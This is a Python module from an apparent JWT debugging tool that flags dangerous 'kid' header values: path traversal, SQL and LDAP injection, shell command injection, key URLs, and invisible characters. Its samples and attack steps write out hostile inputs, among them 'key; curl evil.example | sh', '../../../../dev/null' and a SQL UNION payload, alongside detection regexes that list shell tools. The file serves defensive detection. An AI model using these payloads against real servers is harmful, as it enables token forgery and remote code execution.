"""Pitfalls of `kid` where it becomes a path, a query, a command, an address or a log line."""

import re
from collections.abc import Iterator
from itertools import pairwise

from debugger import samples
from debugger.claims.wording import quoted
from debugger.pitfalls.registry import Case, Evidence, Severity, pitfall, rfc
from debugger.regex import regex

_AT = "header.kid"


def _kid(case: Case) -> str:
    kid = case.header.get("kid")
    return kid if isinstance(kid, str) else ""


@pitfall(
    "kid-path-traversal",
    severity=Severity.ERROR,
    title="“kid” is a file path",
    why="If “kid” becomes a file name, the attacker chooses the key: an empty file, or one whose"
    " content they know.",
    fix="Look “kid” up in a fixed table of keys.",
    reference=rfc(8725, "3.10"),
    steps=(
        "The server opens “keys/” + kid and takes what is in the file for the secret.",
        "An attacker writes “../../../../dev/null”, whose content is empty, or a style"
        " sheet that anybody can read.",
        "They sign by HS256 with that content, and the token is accepted.",
    ),
    recipe="keys-by-kid",
    silences_here=("kid-control",),
)
def path_traversal(case: Case) -> Iterator[Evidence]:
    kid = _kid(case)
    if "\0" in kid or (not _is_url(kid) and _is_path(kid)):
        yield Evidence(_AT, f"“kid” is {quoted(kid)}.")


@path_traversal.sample
def _path_traversal() -> samples.Question:
    return samples.with_header(kid="../../../../dev/null")


@pitfall(
    "kid-sql",
    severity=Severity.ERROR,
    title="There is SQL in “kid”",
    why="If “kid” is put into a query, the attacker makes it return a key of their own.",
    fix="Bind parameters, and look up exact names.",
    reference=rfc(8725, "3.10"),
    steps=(
        "The server runs SELECT key FROM keys WHERE id = '<kid>', with the value pasted in.",
        "An attacker writes x' UNION SELECT 'mine'-- and so makes the query return a"
        " secret of their choice.",
        "They sign with that secret, and the token is accepted.",
    ),
    recipe="keys-by-kid",
)
def sql(case: Case) -> Iterator[Evidence]:
    kid = _kid(case)
    if _SQL.search(kid):
        yield Evidence(_AT, f"“kid” is {quoted(kid)}.")


@sql.sample
def _sql() -> samples.Question:
    return samples.with_header(kid="x' UNION SELECT 'secret'-- ")


@pitfall(
    "kid-command",
    severity=Severity.ERROR,
    title="There is a shell command in “kid”",
    why="If “kid” reaches a shell, or an open() that runs commands, code runs on your server.",
    fix="Accept a short alphabet of letters, digits, “-” and “_” only.",
    reference="RFC 8725 §3.10, CWE-78",
    steps=(
        "The server hands “kid” to a shell, or to an open() that runs a command after “|”.",
        "An attacker appends one, such as “; curl evil.example | sh”.",
        "It runs before any signature was checked.",
    ),
    recipe="keys-by-kid",
)
def command(case: Case) -> Iterator[Evidence]:
    kid = _kid(case)
    if _COMMAND.search(kid):
        yield Evidence(_AT, f"“kid” is {quoted(kid)}.")


@command.sample
def _command() -> samples.Question:
    return samples.with_header(kid="key; curl evil.example | sh")


@pitfall(
    "kid-ldap",
    severity=Severity.ERROR,
    title="There is an LDAP filter in “kid”",
    why="If “kid” is put into a filter, it matches another entry than the one that was meant.",
    fix="Escape the value (RFC 4515), or look up exact names.",
    reference=rfc(8725, "3.10"),
    steps=(
        "The server looks the key up with the filter (&(objectClass=key)(uid=<kid>)).",
        "An attacker writes “*)(uid=*”, and the filter matches the first entry there is.",
        "The token is checked with a key that the attacker may know.",
    ),
    recipe="keys-by-kid",
    silences_here=("kid-command",),
)
def ldap(case: Case) -> Iterator[Evidence]:
    kid = _kid(case)
    if any(piece in kid for piece in _LDAP):
        yield Evidence(_AT, f"“kid” is {quoted(kid)}.")


@ldap.sample
def _ldap() -> samples.Question:
    return samples.with_header(kid="*)(uid=*")


@pitfall(
    "kid-url",
    severity=Severity.WARNING,
    title="“kid” is an address",
    why="Some software fetches the key from there, and an attacker’s token names an attacker’s"
    " address.",
    fix="Use opaque names, and never fetch anything by “kid”.",
    reference=rfc(8725, "3.10"),
    steps=(
        "A verifier sees that “kid” is an address, and fetches the key from there.",
        "An attacker’s token names an address of the attacker, where their own public key is.",
        "The signature fits it, and the token is accepted.",
    ),
    recipe="keys-by-kid",
)
def url(case: Case) -> Iterator[Evidence]:
    kid = _kid(case)
    if _is_url(kid):
        yield Evidence(_AT, f"“kid” is {quoted(kid)}.")


@url.sample
def _url() -> samples.Question:
    return samples.with_header(kid="https://keys.acme.example/2026-11.pem")


@pitfall(
    "kid-control",
    severity=Severity.WARNING,
    title="There are invisible characters in “kid”",
    why="They split log lines, and hide from people what is really compared.",
    fix="Accept printable ASCII only.",
    reference="CWE-117",
    steps=(
        "A server logs the “kid” of tokens that it refuses, as it came.",
        "With a line feed in it an attacker writes log lines of their own; with U+202E"
        " the text reads backwards.",
        "Who reads the log, or compares two names by eye, is misled.",
    ),
    recipe="keys-by-kid",
)
def control(case: Case) -> Iterator[Evidence]:
    kid = _kid(case)
    match = _INVISIBLE.search(kid)
    if match:
        yield Evidence(_AT, f"“kid” holds the character U+{ord(match[0]):04X}.")


@control.sample
def _control() -> samples.Question:
    return samples.with_header(kid="a\u202eb")


def _is_url(kid: str) -> bool:
    return kid[:8].lower().startswith(("http://", "https://"))


def _is_path(kid: str) -> bool:
    """Whether a name is a path, and not base64 that happens to begin with “/”."""
    if _CLIMBS.search(kid):
        return True
    if kid[:1] not in ("/", "\\"):
        return False
    if _ROOT.match(kid) or _EXTENSION.search(kid):
        return True
    return ("/" in kid[1:] or "\\" in kid[1:]) and not _is_base64(kid)


def _is_base64(kid: str) -> bool:
    """By its “+” or “=”, or as random letters change between capitals, small ones and digits."""
    if not _BASE64.fullmatch(kid):
        return False
    if "+" in kid or "=" in kid:
        return True
    kinds = [(each.isupper(), each.isdigit()) for each in kid if each != "/"]
    changes = sum(one != other for one, other in pairwise(kinds))
    return len(kinds) >= _LONG_ENOUGH and changes >= _CHANGES * len(kinds)


_LONG_ENOUGH = 20
_CHANGES = 0.4  # two neighbours of random base64 differ in kind 65 times in 100, those of words 25
_DOTS, _SEPARATOR = r"(?:\.|%(?:25)?2e){2}", r"(?:[/\\]|%(?:25)?(?:2f|5c))"
_CLIMBS = regex(
    rf"{_DOTS}{_SEPARATOR}|{_SEPARATOR}{_DOTS}\Z|(?:%(?:25)?2e){{2}}|\A\s*+file:|\A[a-z]:[/\\]",
    re.IGNORECASE,
)
_ROOT = regex(
    r"[/\\](?:dev|etc|proc|sys|var|home|root|tmp|usr|opt|app|keys)(?:[/\\]|\Z)", re.IGNORECASE
)
_EXTENSION = regex(r"\.[A-Za-z][A-Za-z0-9]{0,4}\Z")
_BASE64 = regex(r"[A-Za-z0-9+/]+={0,2}")
# An apostrophe within a word (“D’Or” typed with “'”) is SQL only where a comparison follows.
_SQL = regex(
    r"""['"][\s)]*+(?:(?:union|select)\b|--|;|/\*)"""
    r"""|(?:(?<![A-Za-z])['"]|['"](?=[\s)]))[\s)]*+(?:or|and)\b"""
    r"""|['"](?:or|and)\b[^=<>'"(]*+[=<>'"(]"""
    r"""|\bunion(?:\s|/\*[^*]*+\*/|\()++(?:(?:all|distinct)(?:\s|\()++)?select\b""",
    re.IGNORECASE,
)
_COMMANDS = (
    "sh|bash|zsh|cat|curl|wget|id|whoami|uname|ls|nc|ncat|ping|sleep|rm|echo|touch|python|perl|ruby"
    "|node|powershell|cmd|nslookup|dig"
)
_FOLDER = r"(?:/(?:usr/)?(?:local/)?s?bin/)?"
_COMMAND = regex(
    rf"`|\$\(|\$\{{|(?:;|\|\|?|&&?)\s*+{_FOLDER}(?:{_COMMANDS})(?![\w=-])", re.IGNORECASE
)
_LDAP = ("*)(", ")(|", ")(&", "(|(", "(&(")
_INVISIBLE = regex(r"[\x00-\x1f\x7f\u061c\u200b-\u200f\u202a-\u202e\u2060\u2066-\u2069\ufeff]")
